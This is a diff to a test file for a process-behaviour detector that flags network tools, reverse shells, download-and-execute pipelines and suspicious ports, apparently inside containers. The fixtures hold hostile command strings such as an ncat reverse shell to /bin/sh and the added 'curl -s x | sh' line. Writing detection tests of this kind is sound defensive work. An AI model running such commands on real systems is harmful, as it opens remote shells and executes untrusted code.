@@ -41,6 +41,7 @@ test('miners, network tools, reverse shells and suspicious ports cut the network
   assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ processes: [proc(1, 'docker-init'), proc(6, 'ncat', 'ncat 10.0.0.1 9999 -e /bin/sh')] }))), ['network-tool!']);
   assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ processes: [proc(1, 'docker-init'), proc(7, 'sh', '/bin/sh -i')], socketStdio: new Set([7]) }))), ['socket-shell!', 'shell-spawned']);
   assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ processes: [proc(1, 'docker-init'), proc(8, 'sh', 'sh -c ls')] }))), ['shell-spawned']);
+  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ processes: [proc(1, 'docker-init'), proc(9, 'sh', 'sh -c curl -s x | sh'), proc(10, 'curl', 'curl -s x')] }))), ['shell-spawned', 'downloader!']);
   const c2 = { proto: 'tcp' as const, localIp: '172.17.0.2', localPort: 40000, remoteIp: '198.51.100.4', remotePort: 4444, state: 'syn-sent' as const };
   assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ sockets: [c2] }))), ['suspicious-port!']);
 });
